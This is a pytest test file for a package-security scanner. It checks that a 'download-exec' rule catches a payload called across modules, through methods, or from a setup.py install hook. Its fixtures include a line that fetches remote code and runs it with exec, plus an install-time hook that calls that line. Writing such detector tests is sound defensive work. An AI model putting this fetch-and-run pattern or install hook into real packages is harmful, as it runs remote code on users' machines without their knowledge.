"""What running code of one module calls in another one runs, too."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from scanner.model import Severity

if TYPE_CHECKING:
    from tests.scanner.behaviour.conftest import Found

PAYLOAD = "import requests\ndef go():\n    exec(requests.get('https://host.invalid').text)\n"
METHOD = "import requests\nclass A:\n    def go(self):\n        exec(requests.get('https://host.invalid').text)\n"

CALLERS = {
    "absolute": {"pkg/__init__.py": "import pkg.inner\npkg.inner.go()\n", "pkg/inner.py": PAYLOAD},
    "from import": {"pkg/__init__.py": "from pkg.inner import go\ngo()\n", "pkg/inner.py": PAYLOAD},
    "relative": {"pkg/__init__.py": "from .inner import go as g\ng()\n", "pkg/inner.py": PAYLOAD},
    "relative module": {"pkg/__init__.py": "from . import inner\ninner.go()\n", "pkg/inner.py": PAYLOAD},
    "two levels up": {
        "pkg/a/b/c.py": "from ...inner import go\ngo()\n",
        "pkg/inner.py": PAYLOAD,
    },
    "by way of another module": {
        "pkg/__init__.py": "from .middle import step\nstep()\n",
        "pkg/middle.py": "from .inner import go\ndef step():\n    go()\n",
        "pkg/inner.py": PAYLOAD,
    },
    "handed on": {
        "pkg/__init__.py": "from .middle import go\ngo()\n",
        "pkg/middle.py": "from .inner import go\n",
        "pkg/inner.py": PAYLOAD,
    },
    "method": {"pkg/__init__.py": "from .inner import A\nA().go()\n", "pkg/inner.py": METHOD},
    "install command": {
        "pkg-1.0/setup.py": (
            "from setuptools import setup\nfrom setuptools.command.install import install\n"
            "class I(install):\n    def run(self):\n        from pkg import go\n        go()\n"
            "setup(cmdclass={'install': I})\n"
        ),
        "pkg-1.0/src/pkg/__init__.py": PAYLOAD,
    },
}


@pytest.mark.parametrize("members", CALLERS.values(), ids=CALLERS.keys())
def test_a_function_called_from_another_module_runs(members: dict[str, str], found: Found) -> None:
    assert {f.severity for f in found(members) if f.rule == "download-exec"} == {Severity.CRITICAL}


@pytest.mark.parametrize(
    "caller",
    [
        "from .inner import go\n",
        "from .inner import go\ndef never():\n    go()\n",
        "from .inner import go\nif __name__ == '__main__':\n    go()\n",
        "from elsewhere.inner import go\ngo()\n",
    ],
)
def test_a_function_that_is_only_imported_does_not_run(caller: str, found: Found) -> None:
    findings = found({"pkg/__init__.py": caller, "pkg/inner.py": PAYLOAD})
    assert {f.severity for f in findings if f.rule == "download-exec"} == {Severity.HIGH}


def test_modules_that_call_each_other_end(found: Found) -> None:
    members = {
        "pkg/a.py": "from pkg.b import g\ndef f():\n    g()\nf()\n",
        "pkg/b.py": "from pkg.a import f\ndef g():\n    f()\ng()\n",
    }
    assert found(members) == []
